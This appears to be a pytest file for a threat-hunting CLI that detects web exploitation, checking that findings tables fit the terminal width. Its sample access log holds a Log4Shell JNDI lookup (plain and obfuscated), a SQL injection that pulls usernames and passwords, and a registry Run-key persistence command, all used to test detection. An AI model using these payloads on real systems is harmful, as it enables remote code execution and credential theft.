"""Findings tables that fit: one line per finding within the width, key columns first, the
heading before the rows, long cells cut with "…" while JSON and CSV keep every value."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import Run, table_cells
from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len

from sentinel_t1190 import detection
from sentinel_t1190.table_layout import COMFORTABLE, GAP, VIEWS, Col, view, widths

NOW = "2026-01-15T12:00:00Z"
#: An Apache access log with a Log4Shell lookup (plain and obfuscated) and a SQL injection.
ACCESS_LOG = """\
203.0.113.9 - - [15/Jan/2026:10:00:00 +0000] "GET /search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%3A1389%2Fa%7D HTTP/1.1" 200 12 "-" "Mozilla/5.0"
198.51.100.23 - - [15/Jan/2026:10:05:00 +0000] "GET /item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20- HTTP/1.1" 200 512 "-" "sqlmap/1.7"
192.0.2.10 - - [15/Jan/2026:10:06:00 +0000] "GET /index.html HTTP/1.1" 200 512 "-" "${${::-j}${::-n}${::-d}${::-i}:ldap://192.0.2.10/x}"
"""  # noqa: E501 (log lines are what they are)


def _lines_fit(text: str, width: int) -> None:
    for line in text.splitlines():
        assert cell_len(line) <= width, f"{cell_len(line)} > {width}: {line}"


@pytest.mark.parametrize("width", [80, 100, 120, 160, 220])
def test_the_sample_hunt_fits_one_line_per_finding(cli: Callable[..., Run], width: int) -> None:
    run = cli("hunt", "--sample", env={"COLUMNS": str(width)})
    assert run.code == 0, run.stderr
    _lines_fit(run.stdout, width)
    lines = run.stdout.splitlines()
    # the rule and the window come first, then the rows
    assert lines[0] == "Web server process spawned a shell or attacker tool (T1190)"
    assert lines[1] == "2026-01-14T12:00:00Z → 2026-01-15T12:00:00Z: 35 finding(s)"
    headers = re.split(r"  +", lines[2].strip())
    for key in ("Time (UTC)", "Evidence", "Parent", "Command line"):
        assert key in headers, (key, lines[2])
    assert headers.index("Time (UTC)") == 0 and headers[-1] == "Command line"
    stamps = table_cells(run.stdout, "Time (UTC)")
    assert len(stamps) == 35 and all(len(s) == 19 for s in stamps)  # to the second, whole
    full = cli("hunt", "--sample", "--output", "json").json()["findings"]
    for shown, finding in zip(table_cells(run.stdout, "Command line"), full, strict=True):
        value = finding["ProcessCommandLine"]
        assert shown == value or (shown.endswith("…") and value.startswith(shown[:-1])), shown
    if width >= 160:  # room for whole devices and labels
        assert {*table_cells(run.stdout, "Device")} == {f["DeviceName"] for f in full} - {""}
        assert {*table_cells(run.stdout, "Evidence")} == set(detection.LABELS)


def test_cut_cells_keep_their_full_value_in_csv(cli: Callable[..., Run]) -> None:
    narrow = cli("hunt", "--sample", env={"COLUMNS": "80"}).stdout
    assert any(cell.endswith("…") for cell in table_cells(narrow, "Command line"))
    csv_text = cli("hunt", "--sample", "--output", "csv").stdout
    assert "…" not in csv_text
    assert "reg.exe add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d " \
           "C:\\Users\\Public\\a.exe" in csv_text


@pytest.fixture
def access_log(tmp_path: Path) -> Path:
    path = tmp_path / "access.log"
    path.write_text(ACCESS_LOG)
    return path


def test_companion_tables_show_their_evidence_at_100_columns(
        cli: Callable[..., Run], access_log: Path) -> None:
    run = cli("hunt", "--local", str(access_log), "--rule", "log4shell_jndi_lookup",
              "--rule", "sql_injection_in_request", "--now", NOW, env={"COLUMNS": "100"})
    assert run.code == 0, run.stderr
    _lines_fit(run.stdout, 100)
    log4shell, sqli = run.stdout.split("SQL injection payload in web request")
    assert table_cells(log4shell, "Source IP") == ["192.0.2.10", "203.0.113.9"]
    assert table_cells(log4shell, "Evidence")[1] == "JNDI lookup in request"
    assert table_cells(log4shell, "Evidence")[0].startswith("Obfuscated JNDI")
    payloads = table_cells(log4shell, "Payload (decoded)")
    assert payloads[0].startswith("/index.html?- UA=${${::-j}")
    assert payloads[1].startswith("/search?q=${jndi:ldap://203.0.113.9")
    assert table_cells(sqli, "Source IP") == ["198.51.100.23"]
    assert table_cells(sqli, "Evidence")[0].startswith("UNION-based")
    assert table_cells(sqli, "Request (decoded)")[0].startswith("/item.php?id=1' UNION SELECT")
    assert table_cells(sqli, "Status") == ["200"]


def test_web_shell_table_shows_the_path_and_the_writer(cli: Callable[..., Run]) -> None:
    corpus = Path(__file__).parent / "corpus/web_shell/otrf_proxylogon_file_events.jsonl"
    run = cli("hunt", "--local", f"DeviceFileEvents={corpus}", "--rule",
              "web_shell_file_in_web_root", "--now", "2021-03-14T06:41:00Z",
              env={"COLUMNS": "100"})
    assert run.code == 0, run.stderr
    _lines_fit(run.stdout, 100)
    assert table_cells(run.stdout, "Written by") == ["System"]
    [path] = table_cells(run.stdout, "Path")
    assert path.startswith("C:\\Program Files\\Microsoft\\Exchange Ser")


# --- the layout itself -------------------------------------------------------------------------

_SEED_VIEW = view(["Timestamp", "DeviceName", "AccountName", "FileName", "ProcessCommandLine",
                   "InitiatingProcessFileName", "ExploitEvidence", "SHA256"])


def test_views_name_the_columns_rules_output_and_one_flexible_column_each() -> None:
    for _, cols in VIEWS:
        assert sum(c.flex for c in cols) == 1
    assert [c.name for c in _SEED_VIEW][:3] == ["Timestamp", "ExploitEvidence", "DeviceName"]
    other = view(["When", "SHA256", "What"])  # a rule of your own: its columns, hashes last
    assert [c.name for c in other] == ["When", "What", "SHA256"]


@given(width=st.integers(20, 300),
       natural=st.lists(st.integers(1, 400), min_size=len(_SEED_VIEW),
                        max_size=len(_SEED_VIEW)))
def test_the_layout_stays_within_the_width_and_keeps_the_key_columns(
        width: int, natural: list[int]) -> None:
    sizes = {c.name: n for c, n in zip(_SEED_VIEW, natural, strict=True)}
    layout = widths(_SEED_VIEW, sizes, width)
    shown = [c for c, _ in layout]
    total = sum(w for _, w in layout) + GAP * (len(layout) - 1)
    assert total <= max(width, sizes[shown[0].name])  # one column always shows
    assert all(0 < w <= sizes[c.name] for c, w in layout)  # never wider than its content
    # the most important columns: a run of those before the flexible one, the flexible one,
    # then a run of the others
    flex = next(c for c in _SEED_VIEW if c.flex)
    split = _SEED_VIEW.index(flex)
    before = [c for c in shown if c is not flex and _SEED_VIEW.index(c) < split]
    after = [c for c in shown if _SEED_VIEW.index(c) > split]
    assert before == _SEED_VIEW[:len(before)]
    if flex in shown:
        assert shown[-1] is flex  # the long column last
        assert after == _SEED_VIEW[split + 1:split + 1 + len(after)]
    else:
        assert shown == _SEED_VIEW[:1] and not after  # room for nothing but the first


def test_the_flexible_column_gets_its_room_before_less_important_columns() -> None:
    cols = [Col("a", "a", 5, 10), Col("long", "long", 20, flex=True), Col("z", "z", 5, 10)]
    natural = {"a": 10, "long": 300, "z": 10}
    assert [(c.name, w) for c, w in widths(cols, natural, 60)] == [("a", 10), ("long", 48)]
    wide = widths(cols, natural, 10 + COMFORTABLE + 10 + 2 * GAP)
    assert [(c.name, w) for c, w in wide] == [("a", 10), ("z", 10), ("long", COMFORTABLE)]



def test_fleet_tables_fit_and_wrap_the_reason_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    import io

    from conftest import squashed, table_column

    from sentinel_t1190 import render

    reason = ("AuthorizationFailed: the client does not have authorization to perform action "
              "'Microsoft.SecurityInsights/alertRules/write'. Needs Microsoft Sentinel "
              "Contributor.")
    target = {"subscription_id": "00000000-1111-2222-3333-444444444444",
              "resource_group": "rg-sentinel-prod-westeurope"}
    doc = {"targets": [
        {**target, "workspace": "law-prod", "status": "failed", "error": reason, "rules": []},
        {**target, "workspace": "law-dev", "status": "updated", "rules": [
            {"id": "1b6a4a5e-0000-4000-8000-000000000001",
             "short_id": "linux_web_server_child_process", "name": "Linux web server…",
             "action": "updated", "changes": [{"field": "query"}]}]}],
        "summary": {"total": 2, "failed": 1, "updated": 1, "refused": 0}}
    monkeypatch.setenv("COLUMNS", "100")
    out = io.StringIO()
    render.rollout_report(doc, render.OutputFormat.table, out)
    text = out.getvalue()
    _lines_fit(text, 100)
    assert text.startswith("targets that changed or failed\n")
    assert table_cells(text, "workspace")[0] == "law-prod"
    assert "linux_web_server_child_process" in table_cells(text, "rule")
    assert table_column(text, "error / reason") == squashed(reason)  # wrapped, never cut


@pytest.mark.parametrize("width", [80, 100, 160])
def test_rules_table_fits_with_whole_short_ids(cli: Callable[..., Run], width: int) -> None:
    run = cli("rules", env={"COLUMNS": str(width)})
    assert run.code == 0, run.stderr
    _lines_fit(run.stdout, width)
    ids = [cell for cell in table_cells(run.stdout, "rule") if cell]
    assert ids == sorted(r["short_id"] for r in cli("rules", "-o", "json").json()["rules"])
